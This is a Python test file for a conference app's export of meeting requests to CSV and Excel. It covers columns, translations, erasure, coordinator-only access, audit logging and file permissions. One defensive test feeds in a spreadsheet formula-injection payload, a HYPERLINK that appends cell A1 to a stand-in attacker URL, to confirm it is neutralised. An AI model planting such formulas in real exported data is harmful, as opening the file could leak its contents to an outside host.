"""The requests as a table for coordinators: what is in it, in whose words, and that no cell is a formula."""

import csv
import stat
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlmodel import Session, select
from typer.testing import CliRunner

from copapp.cli import app
from copapp.database import migrate, reading, writing
from copapp.domain.source import SourceProgramme
from copapp.i18n import LANGUAGES
from copapp.interop.table_file import table_file
from copapp.models import AuditEntry, StaffRole
from copapp.services.erasure import erase_address
from copapp.services.meetings import accept
from copapp.services.moves import NotAllowedError
from copapp.services.requests_table import take_requests
from tests.browser.phone import TITLES
from tests.conftest import Environment
from tests.meeting_requests import MONDAY, TEN, Staffed, asked, staffed, terms

FORMULA = '=HYPERLINK("https://evil.example/"&A1)'


@pytest.fixture
def house(db: Session, cop14: SourceProgramme) -> Staffed:
    made = staffed(db, cop14)
    made.aigul.role = StaffRole.COORDINATOR
    db.flush()
    return made


def rows(house: Staffed, language: str = "en") -> list[list[str]]:
    return take_requests(house.db, house.aigul, "csv", language, MONDAY).rows


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


def read_excel(content: bytes) -> list[list[Any]]:
    return [[cell.value or "" for cell in row] for row in load_workbook(BytesIO(content)).active.iter_rows()]


def test_a_row_says_what_was_asked_and_what_was_agreed(house: Staffed) -> None:
    first = asked(house.db, "Dana", event="saiga-recovery", whom="aigul")
    asked(house.db, "Emma", slot=None, language="fr")
    accept(house.db, first.id or 0, house.bolat, terms(house.bolat, TEN), MONDAY)

    headings, dana, emma = rows(house)

    assert dict(zip(headings, dana, strict=True)) == {
        "State": "Accepted",
        "Name": "Dana",
        "Organisation": "Ministry of Ecology",
        "E-mail": "dana@ministry.example",
        "Reason": "The saiga corridor.",
        "About": TITLES["saiga-recovery"],
        "Wished for": "2024-02-13 10:00+05:00",
        "Would like to meet": "Aigul",
        "With": "Bolat",
        "Agreed from": "2024-02-13 10:00+05:00",
        "Agreed until": "2024-02-13 10:30+05:00",
        "Agreed place": "Room Ferghana, Expo Centre",
        "Language": "English",
        "Asked": "2024-02-12 09:00+05:00",
        "Last change": "2024-02-12 09:00+05:00",
    }
    assert emma[5:13] == ["", "any time", "", "", "", "", "", "French"]


def test_headings_and_states_are_in_the_readers_language(house: Staffed) -> None:
    asked(house.db)

    found = {language: rows(house, language) for language in LANGUAGES}

    assert {language: (each[0][0], each[1][0]) for language, each in found.items()} == {
        "en": ("State", "New"),
        "fr": ("État", "Nouveau"),
        "es": ("Estado", "Nueva"),
        "ru": ("Состояние", "Новый"),
    }


def test_erased_requests_are_absent(house: Staffed) -> None:
    asked(house.db, "Dana")
    asked(house.db, "Emma")

    erase_address(house.db, "dana@ministry.example", MONDAY)

    assert [row[1] for row in rows(house)[1:]] == ["Emma"]


def test_no_cell_is_a_formula(house: Staffed) -> None:
    asked(house.db, organisation=FORMULA, reason='-1\n+2 "quoted", and so on')
    given = rows(house)

    in_csv = read_csv(table_file("csv", "Requests", given))
    in_excel = read_excel(table_file("xlsx", "Requests", given))

    assert in_csv == in_excel
    assert in_csv[1][2:5] == [f"'{FORMULA}", "dana@ministry.example", '\'-1\n+2 "quoted", and so on']
    sheet = load_workbook(BytesIO(table_file("xlsx", "Requests", given)))["Requests"]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_only_an_active_coordinator_takes_them_and_that_is_written_down(house: Staffed) -> None:
    asked(house.db)

    with pytest.raises(NotAllowedError):
        take_requests(house.db, house.bolat, "csv", "en", MONDAY)
    take_requests(house.db, house.aigul, "xlsx", "en", MONDAY)
    take_requests(house.db, None, "csv", "en", MONDAY)

    written = [(each.member_id, each.act, each.subject, each.changes) for each in _entries(house.db)]
    assert written == [(house.aigul.id, "take_requests", "xlsx", {}), (None, "take_requests", "csv", {})]
    house.aigul.disabled_at = MONDAY
    with pytest.raises(NotAllowedError):
        take_requests(house.db, house.aigul, "csv", "en", MONDAY)


def _entries(db: Session) -> list[AuditEntry]:
    return list(db.exec(select(AuditEntry).where(AuditEntry.act == "take_requests")))


@pytest.fixture
def kept(environment: Environment, cop14: SourceProgramme, tmp_path: Path) -> Path:
    """A conference with one request, for the command line; the folder is where it is called."""
    environment(NOW=MONDAY.isoformat())
    migrate()
    with writing() as db:
        staffed(db, cop14)
        asked(db, "Dana")
    return tmp_path


def run(*arguments: str) -> tuple[int, bytes, str]:
    done = CliRunner().invoke(app, ["export", *arguments])
    return done.exit_code, done.stdout_bytes, " ".join(done.stderr.split())


def test_command_writes_a_file_for_its_owner_alone_and_says_when_to_delete_it(kept: Path) -> None:
    file = kept / "asked.csv"

    code, _, complained = run("requests.csv", "--language", "ru", "--output", str(file))
    _, to_stdout, _ = run("requests.xlsx", "--output", "-")

    assert code == 0
    assert [row[1] for row in read_csv(file.read_bytes())] == ["Имя", "Dana"]
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert "personal data: delete it before 18 March 2024" in complained
    assert [row[1] for row in read_excel(to_stdout)] == ["Name", "Dana"]
    with reading() as db:
        assert [(each.member_id, each.subject) for each in _entries(db)] == [(None, "csv"), (None, "xlsx")]


def test_requests_that_could_not_be_written_were_not_taken(kept: Path) -> None:
    code, said, complained = run("requests.csv", "--output", str(kept / "nowhere" / "asked.csv"))

    assert (code, said) == (1, b"")
    assert complained == f"{kept}/nowhere/asked.csv cannot be written: No such file or directory."
    with reading() as db:
        assert list(_entries(db)) == []


@pytest.mark.parametrize(
    ("file", "begins"),
    [
        ("programme.ics", b"BEGIN:VCALENDAR"),
        ("schedule.xml", b"<?xml"),
        ("schedule.json", b'{\n "schedule"'),
        ("programme.csv", b"\xef\xbb\xbfID,Title"),
        ("programme.xlsx", b"PK"),
    ],
)
def test_command_writes_the_programme_in_every_format(kept: Path, file: str, begins: bytes) -> None:
    code, written, complained = run(file, "--output", "-")

    assert (code, written[: len(begins)]) == (0, begins)
    assert ("COPAPP_PUBLIC_URL" in complained) == file.endswith(("ics", "xml", "json"))
    assert "personal" not in complained
